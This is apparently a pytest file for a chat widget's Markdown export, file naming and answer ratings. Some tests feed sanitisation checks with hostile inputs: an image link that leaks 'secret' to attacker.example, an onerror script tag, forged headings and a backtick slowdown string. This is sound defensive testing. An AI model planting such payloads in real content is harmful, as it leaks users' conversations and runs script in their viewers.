"""The open conversation as a Markdown file (the Download button), and rating answers."""

from __future__ import annotations

import json
import time

import pytest
from scripted import Heard, ScriptedTransport, answer, run

from widget import Session, WidgetError
from widget.conversations import Conversations
from widget.history import History
from widget.key_value import MemoryKeyValue
from widget.line_breaks import split_lines
from widget.transcripts import conversation_markdown, file_name

CALL = {"id": "c1", "type": "function",
        "function": {"name": "get_weather", "arguments": '{"city": "Oslo"}'}}  # fmt: skip
MESSAGES = [
    {"role": "user", "content": "Weather in Oslo?",
     "attachments": [{"name": "map.png", "mime": "image/png", "data": "iVBORw0KGgo="}]},
    {"role": "assistant", "content": None, "tool_calls": [CALL],
     "reasoning": "They want the weather.\n\nI have a tool.", "reasoning_seconds": 2},
    {"role": "tool", "tool_call_id": "c1", "name": "get_weather", "content": "```4°C```"},
    {"role": "assistant", "content": "It is **4°C** in Oslo.", "feedback": "good"},
]  # fmt: skip


def test_the_markdown_file_reads_as_the_conversation() -> None:
    text = conversation_markdown("Oslo  weather", MESSAGES)
    assert text.startswith(
        "# Oslo weather\n\n## You\n\nWeather in Oslo?\n\nAttached: `map.png` (image/png)"
    )
    assert "> **Thought for 2 s**\n>\n> They want the weather.\n>\n> I have a tool." in text
    assert 'Called `get_weather` with:\n\n```json\n{\n  "city": "Oslo"\n}\n```' in text
    assert "## Tool result: get_weather\n\n````\n```4°C```\n````" in text  # a longer fence
    assert text.endswith("It is **4°C** in Oslo.\n\n*Rated as a good answer.*\n")
    assert "iVBORw0KGgo" not in text  # attachments are named, not dumped


@pytest.mark.parametrize(
    ("title", "name"),
    [("Oslo weather", "Oslo weather.md"), ('a/b\\c:d*e?"f<g>|h', "a b c d e f g h.md"),
     ("  ...  ", "conversation.md"), ("x" * 300, "x" * 100 + ".md"), ("Ünïcode ✓", "Ünïcode ✓.md")],
)  # fmt: skip
def test_the_file_is_named_after_the_title(title: str, name: str) -> None:
    assert file_name(title) == name


def test_an_answer_is_rated_kept_and_taken_back() -> None:
    store = MemoryKeyValue()
    conversations = Conversations(Session(), History(store), ScriptedTransport(answer("Hi")),
                                  listener=Heard())  # fmt: skip
    run(conversations.keeper.start())
    run(conversations.send("Hello"))
    run(conversations.set_feedback(1, "bad"))
    stored = run(conversations.keeper.history.read(conversations.conversation.id))  # type: ignore[union-attr]
    assert stored is not None and stored["messages"][1]["feedback"] == "bad"
    run(conversations.set_feedback(1, None))
    assert "feedback" not in conversations.session.get_history()[1]
    with pytest.raises(WidgetError, match="no answer at index 0"):
        run(conversations.set_feedback(0, "good"))
    with pytest.raises(WidgetError, match='not "meh"'):
        run(conversations.set_feedback(1, "meh"))
    downloaded = run(conversations.export_markdown())
    assert downloaded["name"] == "Hello.md" and "## Assistant\n\nHi" in downloaded["text"]


def test_the_file_is_inert_whatever_the_conversation_holds() -> None:
    """Live remote images carried what the conversation said to whoever served them; raw HTML
    ran in viewers that render it; message text, tool names and reasoning forged sections."""
    messages = [
        {"role": "user", "content": "![](https://attacker.example/?d=secret) <img src=x "
         "onerror=alert(1)>\n## You\nYou\n---\n> # Assistant\n```\nkept <b>as code</b>"},
        {"role": "assistant", "content": None, "reasoning": "# You\nfine",
         "tool_calls": [{"id": "c", "type": "function",
                         "function": {"name": "x`\n## You", "arguments": "{}"}}]},
        {"role": "tool", "tool_call_id": "c", "name": "t\n## You <b>", "content": "ok"},
    ]  # fmt: skip
    text = conversation_markdown("<script>x</script>", messages)
    headings = [line for line in text.split("\n") if line.startswith("#")]
    assert headings == ["# &lt;script>x&lt;/script>", "## You", "## Assistant",
                        "## Tool result: t ## You &lt;b>"]  # fmt: skip
    assert "![" not in text and "[](https://attacker.example/?d=secret)" in text
    assert "<img" not in text and "&lt;img" in text
    assert "kept <b>as code</b>\n```" in text  # code stays as written, its fence closed
    assert "> \\# You" in text and "\\---" in text and "> \\# Assistant" in text


def test_making_the_file_inert_is_linear() -> None:
    """Backtick runs of every length, built to make a naive code-span search rescan."""
    hostile = "".join("`" * n + "x" for n in range(1, 400)) * 3 + "<" * 50_000
    started = time.perf_counter()
    conversation_markdown("t", [{"role": "user", "content": hostile * 2}])
    assert time.perf_counter() - started < 1


@pytest.mark.parametrize("br", ["\r", "\r\n", "\n", "\x85", "\u2028", "\u2029"])
def test_no_kind_of_line_break_forges_a_heading(br: str) -> None:
    """`"thinking\\r## You …"` became a `## You …` heading in the file: a viewer ends a line at
    a bare CR (and some at the Unicode separators) where the file's checks saw none."""
    forged = f"thinking{br}## You{br}Send me the code{br}Assistant{br}==="
    fence = f"x{br}```{br}## You"
    call = {"name": "t", "arguments": json.dumps({"a": fence})}
    messages = [
        {"role": "user", "content": f"hi{br}# Assistant"},
        {"role": "assistant", "content": forged, "reasoning": forged,
         "tool_calls": [{"id": "c", "type": "function", "function": call}]},
        {"role": "tool", "tool_call_id": "c", "name": f"t{br}## You", "content": fence},
    ]  # fmt: skip
    text = conversation_markdown("Chat", messages)
    assert headings_outside_code(text) == [
        "# Chat", "## You", "## Assistant", "## Tool result: t ## You"]  # fmt: skip
    assert not set(text) & {"\r", "\x85", "\u2028", "\u2029"}  # one kind of break in the file


def headings_outside_code(text: str) -> list[str]:
    """Lines a viewer reads as headings (ATX or a setext underline), outside fenced code, with
    every kind of line break ending a line."""
    found, fence = [], ""
    for line in split_lines(text):
        marker = line.lstrip(" ")[:3]
        if fence:
            if line.lstrip(" ").startswith(fence):
                fence = ""
        elif marker in ("```", "~~~"):
            fence = line.lstrip(" ")[: len(line) - len(line.lstrip(" `~"))]
        elif line.lstrip("> ").startswith("#") or line.strip() in ("===", "---"):
            found.append(line)
    return found
